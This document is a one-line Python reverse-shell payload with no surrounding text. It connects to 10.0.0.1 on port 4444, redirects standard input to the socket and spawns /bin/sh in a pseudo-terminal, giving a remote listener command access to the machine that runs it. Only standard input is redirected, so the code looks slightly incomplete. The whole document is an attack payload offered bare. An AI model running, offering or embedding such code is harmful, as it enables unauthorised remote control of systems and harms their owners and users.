import socket,pty,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")
